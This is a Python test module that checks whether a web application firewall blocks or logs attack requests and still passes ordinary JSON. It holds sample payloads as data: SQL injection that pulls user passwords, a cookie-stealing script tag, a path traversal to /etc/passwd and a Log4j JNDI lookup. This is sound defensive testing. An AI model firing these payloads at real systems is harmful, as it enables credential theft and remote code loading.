"""Proves that the firewall refuses attacks, or writes them down, and lets ordinary requests through."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from functools import partial
from typing import Final
from urllib.parse import quote

from greenfield.model.plan import Edge, Resource
from greenfield.model.proof import Bench, Observation, Outcome, Proof
from greenfield.programs.envoy import DENIED_HEADER, UPSTREAM_TIME_HEADER
from greenfield.programs.firewall import PlacedFirewall, edge_port
from greenfield.programs.knock import CLOSED, asked, connected


@dataclass(frozen=True)
class Request:
    """One that asks what may be done, so that no program acts on it."""

    path: str = "/"
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes = b""


_INJECTED: Final = "1' UNION ALL SELECT name, password FROM users-- "
_JSON: Final = {"content-type": "application/json"}
ATTACKS: Final = {
    "SQL injection": Request("/?id=" + quote(_INJECTED)),
    "SQL injection in JSON": Request(headers=_JSON, body=json.dumps({"id": _INJECTED}).encode()),
    "cross-site scripting": Request("/?q=" + quote("<script>alert(document.cookie)</script>")),
    "path traversal": Request("/?file=" + quote("../../../../etc/passwd")),
    "a Log4j lookup": Request(headers={"x-api-version": "${jndi:ldap://example.org/a}"}),
}
ORDINARY: Final = Request(
    headers=_JSON, body=json.dumps({"customer": "Ada O'Neil", "note": "It's a gift -- thanks & regards, #4"}).encode()
)


def grants(resource: Resource, edge: Edge, bench: Bench) -> list[Proof]:  # noqa: ARG001
    """None: no service uses the firewall."""
    return []


def refusals(resource: Resource, bench: Bench) -> list[Proof]:
    """That plaintext and a request for another host are refused, and attacks as its mode has it."""
    settings = resource.settings
    assert isinstance(settings, PlacedFirewall)
    name, tried = resource.name, partial(_tried, resource, bench)
    meets: Outcome = "refused" if settings.mode == "block" else "allowed"
    return [
        Proof(f"plaintext at {name}", "plaintext", "anyone", name, "refused", partial(_plaintext, resource, bench)),
        Proof(
            f"another host at {name}", "firewall", "anyone", name, "refused", partial(tried, ORDINARY, "another.test")
        ),
        *(
            Proof(f"{attack} at {name}", "firewall", "anyone", name, meets, partial(tried, request, settings.host))
            for attack, request in ATTACKS.items()
        ),
        Proof(
            f"ordinary JSON at {name}", "firewall", "anyone", name, "allowed", partial(tried, ORDINARY, settings.host)
        ),
    ]


def _door(resource: Resource, bench: Bench) -> tuple[str, int]:
    return bench.site.ports[edge_port(bench.plan.resource(resource.brought_by))]


def _plaintext(resource: Resource, bench: Bench) -> Observation:
    try:
        answer = asked(connected(_door(resource, bench), None), "OPTIONS", "/", "localhost")
    except CLOSED as exc:
        return Observation("refused", str(exc) or type(exc).__name__)
    assert answer is not None  # only an unfinished request has none
    said = f"answered {answer.status} in plaintext"
    return Observation("refused" if answer.status == 400 else "allowed", said)


def _tried(resource: Resource, bench: Bench, request: Request, host: str) -> Observation:
    """The firewall's own 403 carries no mark of the mesh, and nothing of an answer from further on."""
    try:
        connection = connected(_door(resource, bench), bench.stranger_leaf(), server_name=host)
        answer = asked(connection, "OPTIONS", request.path, host, headers=request.headers, body=request.body)
    except CLOSED as exc:
        return Observation("refused", str(exc) or type(exc).__name__)
    assert answer is not None  # only an unfinished request has none
    further_on = {UPSTREAM_TIME_HEADER, DENIED_HEADER} & answer.headers.keys()
    stopped = not further_on and answer.status in (400, 403, 421, 502, 504)
    return Observation("refused" if stopped else "allowed", f"answered {answer.status}")
